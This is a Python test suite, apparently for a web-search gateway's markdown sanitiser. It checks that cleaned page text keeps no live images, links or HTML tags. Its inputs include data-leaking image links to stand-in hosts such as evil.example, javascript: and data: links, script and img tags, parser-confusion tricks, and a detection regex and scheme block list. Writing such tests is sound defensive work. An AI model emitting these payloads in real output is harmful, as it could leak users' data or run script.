"""A parser of CommonMark is the judge: whatever the page, nothing in the cleaned text is live."""

from __future__ import annotations

import re
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from websearch_gateway.text.safety.certain_code import code_pieces
from websearch_gateway.text.safety.sanitise import clean_markdown

PAGE = "https://example.com/a"
PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
PARSER.validateLink = lambda url: True  # type: ignore[method-assign]
ACTING = re.compile(r"<(?:img|script|iframe|svg|style|form|input|object|base|meta|link|video)\b", re.IGNORECASE)
HARMFUL = ("javascript:", "data:", "vbscript:", "file:")

SCRAPS = st.sampled_from(
    (
        *(
            "`",
            "``",
            "```",
            "```\n",
            "~~~",
            "~~~\n",
            "    ```\n",
            "\n",
            "\n\n",
            "\n> ",
            "\n- ",
            "\n    ",
            "1. ",
            "\t",
            "  ",
        ),
        *("![a](//evil.example/?d=1)", "[x](javascript:alert(1))", "![", "[", "]", "](", "](//e.example?q)", "(", ")"),
        *(
            "<img src=//e.example?q>",
            "<script>",
            "<",
            ">",
            '<a href="`">',
            "<b title='`'>",
            "<http://a.b/`>",
            "<!-- ` -->",
        ),
        *(
            "| a |\n|---|\n| ",
            "|",
            "![a][b]",
            "[b]",
            "\n[b]: //e.example?q\n",
            "[b]: javascript:x",
            "<javascript:x>",
            "<?`",
        ),
        *(
            "\\",
            "\\`",
            "&#96;",
            "<!--",
            "-->",
            "<![CDATA[`",
            '"',
            "*",
            "_",
            "!",
            "# ",
            "---",
            "===",
            "\r",
            "\u00a0",
            "a",
        ),
    )
)


def live(markdown: str) -> list[str]:
    """The parts of it that load or run something, or leak data."""
    found = []
    for block in PARSER.parse(markdown):
        for token in (block, *(block.children or ())):
            if token.type == "image" and _tells(str(token.attrGet("src"))):
                found.append(str(token.attrGet("src")))
            elif token.type == "link_open" and str(token.attrGet("href")).strip().lower().startswith(HARMFUL):
                found.append(str(token.attrGet("href")))
            elif token.type in ("html_inline", "html_block") and ACTING.search(token.content):
                found.append(token.content)
    return found


def _tells(address: str) -> bool:
    parts = urlsplit(address)
    foreign = parts.hostname and not parts.hostname.endswith("example.com")
    return parts.scheme not in ("", "http", "https") or bool(foreign and parts.query)


@settings(max_examples=400)
@given(st.lists(SCRAPS, min_size=2, max_size=14).map("".join))
def test_no_link_image_or_tag_is_live_after_cleaning(text: str) -> None:
    assert live(clean_markdown(text, PAGE)[0]) == []


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("\\`![](//e.example?d)`", id="an escaped tick"),
        pytest.param("`\n\n![](//e.example?d)\n\n`", id="ticks of two paragraphs"),
        pytest.param("`\n> ![](//e.example?d)`", id="ticks of a paragraph and a quotation"),
        pytest.param("| a | b |\n|---|---|\n| `x | ![](//e.example?d)` |", id="ticks of two cells"),
        pytest.param('<a f="`">![](//e.example?d)`', id="a tick in a tag"),
        pytest.param("x <!-- ` -->![](//e.example?d)`", id="a tick in a comment"),
        pytest.param("<pre>\n\n`<img src=x>`", id="a tag that holds paragraphs"),
        pytest.param("<div>\n```\n<img src=x>\n```", id="a fence in a block of HTML"),
        pytest.param("- a\n  ```\n![](//e.example?d)", id="a fence whose list has ended"),
        pytest.param("- ```\n  x\n  ```\n  ![](//e.example?d)", id="a fence that began in a list"),
        pytest.param("    ```\n```\nx\n```\n![](//e.example?d)", id="an indented fence that is none"),
        pytest.param("```\n    ```\nx\n```\n![](//e.example?d)", id="an end of a fence that is none"),
        pytest.param("[b]\n> [b]: javascript:x", id="a definition in a quotation"),
        pytest.param("[b]\n\n- [b]:\n  data:x", id="a definition in a list"),
    ],
)
def test_code_for_only_some_parsers_is_cleaned(text: str) -> None:
    assert live(text), "a case that was never live tests nothing"
    assert live(clean_markdown(text, PAGE)[0]) == []


@pytest.mark.parametrize(
    "code",
    [
        "`![a](//e.example?d)`",
        "```html\n<img src=x>\n```",
        "~~~\n![](//e.example?d)\n\n`x\n~~~",
        "1. Run it:\n\n   ```html\n   <script>\n   ```\n",
        "- a\n\n  ```\n  <img>\n\n  x\n  ```\n",
        "```\n<img src=x>",
    ],
)
def test_code_for_all_parsers_stays(code: str) -> None:
    text = f"A word and `x` before.\n\n{code}"
    assert clean_markdown(text, PAGE)[0] == text
    assert any("<" in text[start:end] or "![" in text[start:end] for start, end in code_pieces(text))
